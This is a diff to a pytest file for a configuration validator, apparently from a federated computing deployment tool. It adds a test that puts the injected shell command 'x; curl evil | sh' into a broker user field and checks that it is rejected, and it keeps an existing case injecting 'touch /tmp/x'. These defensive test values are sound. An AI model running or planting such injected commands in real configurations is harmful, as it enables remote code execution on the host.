@@ -83,6 +83,10 @@ def _memory_injection(d):
     d["parties"][0]["engines"]["computing"]["worker_memory"] = "1g; touch /tmp/x #"
 
 
+def _shell_in_broker_user(d):
+    d["parties"][2]["engines"]["federation"]["broker"]["user"] = "x; curl evil | sh"
+
+
 def _not_a_dns_label(d):
     d["parties"][2]["id"] = "x.y-"
 
@@ -97,6 +101,8 @@ def _namespace_too_long(d):
 
 @pytest.mark.parametrize("change, line", [
     (_memory_injection, "party 9999: engines.computing.worker_memory: '1g; touch /tmp/x #' is not a Spark memory"),
+    (_shell_in_broker_user, "party 10001: engines.federation.broker.user: 'x; curl evil | sh' is not a broker "
+                            "account name"),
     (_not_a_dns_label, "party x.y-: id: 'x.y-' names the party's containers, volumes and namespace as 'x.y-', "
                        "which is not a DNS-1123 label"),
     (_same_once_normalised, "party a-b: id: duplicate party id (parties[1] and parties[2]): A_b and a-b both "
